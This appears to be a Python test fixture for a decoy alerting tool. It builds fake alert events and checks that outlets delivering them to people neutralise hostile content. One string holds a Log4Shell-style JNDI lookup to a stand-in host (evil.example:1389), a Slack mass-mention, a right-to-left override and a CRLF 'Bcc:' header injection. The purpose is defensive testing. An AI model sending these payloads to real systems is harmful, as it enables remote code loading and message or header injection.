"""Events as a decoy sends them, for the tests of the outlets for people."""
import json

from harness import Case

QUICK = {"step": 2000, "answer": 700}
EVIL = "${jndi:ldap://evil.example:1389/a} <!channel> @here <b> `x` *y* \u00e9\u202e .\r\nBcc: x@y.example"


def alert(n, **more):
    own = {"actor": "%032x" % 77, "sequence": n, "news": "new", "grade": "exploit", "normal": EVIL, "techniques": ["connect", "syn"],
           "indicators": [{"scheme": "ldap", "host": "evil.example", "port": 1389}]}
    own.update(more.pop("caltrop", {}))
    event = {"@timestamp": "2026-11-25T20:00:00Z", "message": "JNDI payload (exploit) from 10.0.0.7 on web1",
             "event": {"kind": "alert", "dataset": "caltrop.decoy", "action": "jndi-lookup", "id": "%032x" % n, "severity": 99},
             "observer": {"hostname": "web1"}, "source": {"address": "10.0.0.7", "ip": "10.0.0.7"}, "n": n, "caltrop": own}
    for key, value in more.items():
        event[key] = {**event[key], **value} if isinstance(value, dict) and key in event else value
    return event


def quiet(kind, **own):
    return alert(0, event={"kind": kind, "dataset": "caltrop.decoy_state", "severity": 0}, message=None, caltrop={"grade": None, **own})


class Sends(Case):
    def send(self, tool, n, event):
        answer = tool.ask("offer %032x %s" % (n, json.dumps(event, separators=(",", ":"))))
        self.assertEqual(answer, "ok")

    def nothing_live(self, text):
        self.assertNotIn("${", text)
        self.assertNotIn("evil.example", text)
